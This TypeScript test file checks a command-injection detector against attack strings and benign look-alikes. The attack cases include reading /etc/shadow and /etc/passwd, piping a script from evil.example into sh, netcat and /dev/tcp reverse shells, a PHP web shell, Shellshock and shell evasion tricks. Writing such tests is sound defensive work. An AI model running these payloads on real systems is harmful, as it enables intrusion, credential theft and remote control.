/**
 * OS command injection: a separator or a substitution, then a command; shell evasions;
 * interpreter calls. Next to prose that uses `&`, `;`, `|`, `$` and command-like words.
 */
import { attacks, benign } from './helpers';

describe('detection: command injection', () => {
  describe('separators and substitutions', () => {
    attacks('cmdi', [
      ';id',
      '| whoami',
      '127.0.0.1 && cat /etc/shadow',
      'foo || uname -a',
      '& ping -n 20 127.0.0.1 &',
      '$(id)',
      '`whoami`',
      'x; curl http://evil.example/s.sh | sh',
      '%0aid',
      '\nnetstat -an',
      ';type c:\\windows\\win.ini',
      '| dir c:\\',
      'file.txt; rm -rf /tmp/x',
      'a;nc -e /bin/sh 10.0.0.1 4444',
      '; sleep 10 #',
    ]);
  });
  describe('evasions (checklist B.8)', () => {
    attacks('cmdi', [";c''at /etc/passwd", ';c\\at /etc/passwd', ';cat${IFS}/etc/passwd', ';w"h"o"a"m"i', ';{cat,/etc/passwd}', '$(c$@at /etc/passwd)']);
  });
  describe('whole command lines and interpreters', () => {
    attacks('cmdi', [
      'uname -a',
      'cat /etc/passwd',
      '/bin/ls -la',
      "() { :;}; /bin/bash -c 'id'",
      '<?php system($_GET["c"]); ?>',
      "system('id');",
      'exec("cat /etc/hosts")',
      '<!--#exec cmd="id"-->',
      'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
    ]);
  });
  describe('benign look-alikes', () => {
    benign([
      'Tom & Jerry',
      'salt & pepper; oil & vinegar',
      'R&D; Q&A | FAQ',
      'a;b;c',
      'red; green; blue',
      'Sizes: S | M | L',
      '$5 each',
      '$HOME sweet home',
      '${total}',
      'C:\\Program Files\\App\\config.ini',
      'cat videos',
      'sleep 8 hours benefits',
      'ping me later',
      'who am I?',
      'id card number',
      'ls (large size)',
      'nc state',
      'curl hair tutorial',
      'uname: alice',
      'Run the tests with `npm test` please',
      'git commit -m "fix: typo"',
      'docker run -p 8080:80 nginx',
      'P.O. Box 1234; Attn: Billing Dept.',
      'Meet @ 7; bring snacks & drinks.',
      "I'd rather sleep; tomorrow's another day",
      'bash birthday party',
    ]);
  });
});

describe('detection: command injection in documentation-like text', () => {
  benign([
    'SEE ALSO\n ps(1), grep(1), id(1)',
    'FILES\n /etc/passwd\n user account information.',
    '/usr/share/man/index.(bt|db|dir|pag)\n the global index database cache.',
    'EXAMPLES\n man ls\n Display the manual page for the item (program) ls, with more text after it.',
  ]);
  attacks('cmdi', ['x\nid', '127.0.0.1\n/bin/cat /etc/passwd\n', 'a long enough value to count as text before the line break\nuname -a']);
});
